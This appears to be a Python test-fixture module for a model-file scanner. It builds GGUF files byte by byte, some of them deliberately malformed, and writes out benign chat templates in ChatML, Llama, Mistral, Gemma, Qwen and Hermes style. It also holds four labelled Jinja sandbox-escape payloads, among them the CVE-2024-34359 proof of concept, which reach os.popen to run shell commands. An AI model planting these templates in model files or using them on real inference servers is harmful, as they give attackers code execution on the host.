"""GGUF files written byte by byte, hostile ones included, and real-style chat templates.

Nothing here is rendered or loaded: the templates are text, the GGUF files are bytes.
"""

from __future__ import annotations

import json
import struct
from collections.abc import Sequence
from pathlib import Path
from typing import Any

U32, STRING, ARRAY, U64 = 4, 8, 9, 10


def gstr(s: str | bytes, *, version: int = 3, length: int | None = None, e: str = "<") -> bytes:
    """A GGUF string: its length (``length`` overrides the true one) and bytes."""
    b = s.encode() if isinstance(s, str) else s
    n = len(b) if length is None else length
    return struct.pack(e + ("I" if version == 1 else "Q"), n) + b


def kv_str(key: str, value: str, *, e: str = "<") -> bytes:
    """A string key/value."""
    return gstr(key, e=e) + struct.pack(e + "I", STRING) + gstr(value, e=e)


def kv_u32(key: str, value: int) -> bytes:
    return gstr(key) + struct.pack("<II", U32, value)


def kv_str_array(key: str, items: Sequence[str], *, count: int | None = None) -> bytes:
    """An array of strings (``count`` overrides the true element count)."""
    n = len(items) if count is None else count
    body = b"".join(gstr(i) for i in items)
    return gstr(key) + struct.pack("<IIQ", ARRAY, STRING, n) + body


def tensor_info(name: str, dims: Sequence[int], ttype: int = 0, offset: int = 0) -> bytes:
    """A tensor record (F32 by default)."""
    shape = b"".join(struct.pack("<Q", d) for d in dims)
    return gstr(name) + struct.pack("<I", len(dims)) + shape + struct.pack("<IQ", ttype, offset)


def gguf(
    kvs: Sequence[bytes],
    tensors: Sequence[bytes] = (),
    data: bytes = b"",
    *,
    version: int = 3,
    n_kv: int | None = None,
    n_tensors: int | None = None,
    e: str = "<",
) -> bytes:
    """A GGUF file: header, key/values, tensor records, padding to 32, tensor data."""
    counts = struct.pack(
        e + "QQ",
        len(tensors) if n_tensors is None else n_tensors,
        len(kvs) if n_kv is None else n_kv,
    )
    head = b"GGUF" + struct.pack(e + "I", version) + counts + b"".join(kvs) + b"".join(tensors)
    pad = b"\x00" * (-len(head) % 32) if tensors else b""
    return head + pad + data


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def tokenizer_config(path: Path, template: Any, **extra: Any) -> Path:
    """A ``tokenizer_config.json`` with a ``chat_template`` (a string or a list)."""
    config = {"bos_token": "<s>", "eos_token": "</s>", "chat_template": template, **extra}
    path.write_text(json.dumps(config, indent=2))
    return path


# Sandbox-escape payloads, as published.
LLAMA_DRAMA = (
    '{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}'
    "{{x()._module.__builtins__['__import__']('os').popen(\"touch /tmp/retr0reg\")}}"
    "{%endif%}{% endfor %}"
)
"""CVE-2024-34359 (GHSA-56xg-wfcc-g829), the proof of concept of the advisory."""
LIPSUM_GLOBALS = (
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
    "{{ lipsum.__globals__['os'].popen('id').read() }}"
)
"""The short SSTI chain of the vLLM / SGLang (CVE-2026-5760) reports: ``lipsum`` globals."""
CYCLER_ATTR_CONCAT = (
    "{% set g = '__glo' ~ 'bals__' %}{% set i = ['__in', 'it__']|join %}"
    "{{ (cycler|attr(i)|attr(g))['o' ~ 's']|attr('po' ~ 'pen') }}"
)
"""Names built from pieces, then ``attr()``: the filter-bypass style of SSTI payloads."""
TEMPLATE_REFERENCE = "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}"
"""The ``self`` gadget: the template reference's private render context."""

CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + "
    "message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = "
    "'<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] "
    "| trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}"
    "{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"
)
MISTRAL = (
    "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != "
    "(loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate "
    "user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}"
    "{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}"
    "{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user and assistant "
    "roles are supported!') }}{% endif %}{% endfor %}"
)
GEMMA = (
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role "
    "not supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == "
    "'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}"
    "{% endif %}{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim + "
    "'<end_of_turn>\\n' }}{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}"
    "{% endif %}"
)
LLAMA31_TOOLS = """{{- bos_token }}
{%- if custom_tools is defined %}
    {%- set tools = custom_tools %}
{%- endif %}
{%- if not date_string is defined %}
    {%- set date_string = "26 Jul 2024" %}
{%- endif %}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}
    {%- set messages = messages[1:] %}
{%- else %}
    {%- set system_message = "" %}
{%- endif %}
{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}
{{- "Today Date: " + date_string + "\\n\\n" }}
{%- if tools is not none %}
    {%- for t in tools %}
        {{- t | tojson(indent=4) }}
        {{- "\\n\\n" }}
    {%- endfor %}
{%- endif %}
{{- system_message }}
{{- "<|eot_id|>" }}
{%- for message in messages %}
    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' }}
    {%- elif 'tool_calls' in message %}
        {%- set tool_call = message.tool_calls[0].function %}
        {{- '{"name": "' + tool_call.name + '", ' }}
        {{- '"parameters": ' }}
        {{- tool_call.arguments | tojson }}
        {{- "}" }}
        {{- "<|eot_id|>" }}
    {%- else %}
        {{- "<|start_header_id|>ipython<|end_header_id|>\\n\\n" }}
        {%- if message.content is mapping or message.content is iterable %}
            {{- message.content | tojson }}
        {%- else %}
            {{- message.content }}
        {%- endif %}
        {{- "<|eot_id|>" }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}
{%- endif %}
"""
QWEN25 = """{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}
{%- for message in messages[::-1] %}
    {%- set index = (messages|length - 1) - loop.index0 %}
    {%- if ns.multi_step_tool and message.role == "user" and not(message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}
        {%- set ns.multi_step_tool = false %}
        {%- set ns.last_query_index = index %}
    {%- endif %}
{%- endfor %}
{%- for message in messages %}
    {%- if message.role == "assistant" and '</think>' in message.content %}
        {%- set content = message.content.split('</think>')[-1].lstrip('\\n') %}
    {%- else %}
        {%- set content = message.content %}
    {%- endif %}
    {{- '<|im_start|>' + message.role + '\\n' + content + '<|im_end|>' + '\\n' }}
    {%- if loop.last and message.role == "user" %}{% break %}{% endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|im_start|>assistant\\n' }}{% generation %}{% endgeneration %}
{%- endif %}
"""
HERMES_TOOLS = """{%- macro json_to_python_type(json_spec) %}
{%- set basic_type_map = {
    "string": "str",
    "number": "float",
    "integer": "int",
    "boolean": "bool"
} %}
{%- if basic_type_map[json_spec.type] is defined %}
    {{- basic_type_map[json_spec.type] }}
{%- elif json_spec.type == "array" %}
    {{- "list[" +  json_to_python_type(json_spec|items) + "]" }}
{%- elif json_spec.type == "object" %}
    {%- if json_spec.additionalProperties is defined %}
        {{- "dict[str, " + json_to_python_type(json_spec.additionalProperties) + ']' }}
    {%- else %}
        {{- "dict" }}
    {%- endif %}
{%- elif json_spec.type is iterable %}
    {{- "Union[" }}
    {%- for t in json_spec.type %}
        {{- json_to_python_type({"type": t}) }}
        {%- if not loop.last %}{{- "," }}{%- endif %}
    {%- endfor %}
    {{- "]" }}
{%- else %}
    {{- "Any" }}
{%- endif %}
{%- endmacro %}
{{- bos_token }}
{{- '<|im_start|>system\\nYou are a function calling AI model. Here are the available tools: <tools> ' }}
{%- for tool in tools %}
    {%- if tool.function is defined %}{%- set tool = tool.function %}{%- endif %}
    {{- '{"type": "function", "function": ' }}
    {{- '{"name": "' + tool.name + '", ' }}
    {{- '"description": "' + tool.name + '(' }}
    {%- for param_name, param_fields in tool.parameters.properties|items %}
        {{- param_name + ": " + json_to_python_type(param_fields) }}
        {%- if not loop.last %}{{- ", " }}{%- endif %}
    {%- endfor %}
    {{- ")" }}
    {{- " - " + tool.description + "\\n\\n" }}
    {{- '"parameters": ' }}
    {{- tool.parameters|tojson }}
    {{- "}" }}
{%- endfor %}
{{- " </tools>Use this json schema for each tool call: {\\"properties\\": {\\"name\\": {\\"title\\": \\"Name\\", \\"type\\": \\"string\\"}, \\"arguments\\": {\\"title\\": \\"Arguments\\", \\"type\\": \\"object\\"}}, \\"required\\": [\\"name\\", \\"arguments\\"], \\"title\\": \\"FunctionCall\\", \\"type\\": \\"object\\"}\\n" }}
{%- for message in messages %}
    {%- if message.role == "tool" %}
        {{- '<|im_start|>tool\\n<tool_response>\\n' + message.content|tojson + '\\n</tool_response><|im_end|>\\n' }}
    {%- else %}
        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>\\n' }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}
"""
BENIGN_TEMPLATES = {
    "chatml": CHATML,
    "llama3": LLAMA3,
    "mistral": MISTRAL,
    "gemma": GEMMA,
    "llama31-tools": LLAMA31_TOOLS,
    "qwen25": QWEN25,
    "hermes-tools": HERMES_TOOLS,
}
"""Real-style chat templates (the shapes the Hub's Qwen, Llama, Mistral and Gemma repos
ship), written out here."""
